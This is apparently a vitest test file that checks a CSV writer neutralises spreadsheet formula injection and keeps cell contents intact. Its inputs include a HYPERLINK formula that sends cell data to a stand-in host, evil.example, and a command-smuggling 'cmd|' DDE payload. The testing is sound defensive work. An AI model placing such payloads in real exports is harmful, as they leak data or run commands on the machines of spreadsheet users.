import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { csv } from './csv.ts';

const cell = (text: string): string => csv([[{ text }]]);
const read = (text: string): string[][] => parse(text, { relaxColumnCount: true });

test.each([
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  '-1+1',
  '-2-3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1+1',
  '＠a',
  '=',
  '-',
  '-2.00=1',
  '+36 30 123 call',
])('%j is no formula any more', (text) => {
  expect(read(`${cell(text)}\n`)[0]).toEqual([`'${text}`]);
});

test.each(['-2.00', '+2', '-1.234,56', '+36 30 123 4567', '-12%', '-.5', "-1'000.50", '−2.00', '2026-06-01', 'a=b', "'a"])(
  '%s stays as it is',
  (text) => {
    expect(read(`${cell(text)}\n`)[0]).toEqual([text]);
  },
);

test('whatever is written is read again, and nothing begins a formula', () => {
  const texts = fc.array(
    fc.array(fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom('=1', '"', '\r\n', ',', '-5', "'")), { minLength: 2, maxLength: 4 }),
    {
      minLength: 1,
      maxLength: 4,
    },
  );
  fc.assert(
    fc.property(texts, (rows) => {
      const width = rows[0]!.length;
      const even = rows.map((row) => Array.from({ length: width }, (_, at) => row[at] ?? 'x'));
      const found = read(`${csv(even.map((row) => row.map((text) => ({ text }))))}\r\n`);
      expect(found.map((row) => row.length)).toEqual(even.map(() => width));
      found.flat().forEach((text, at) => {
        const given = even.flat()[at]!;
        expect([given, `'${given}`]).toContain(text);
        expect(text).not.toMatch(/^[=@\t\r\n]/);
      });
    }),
    { numRuns: 500 },
  );
});
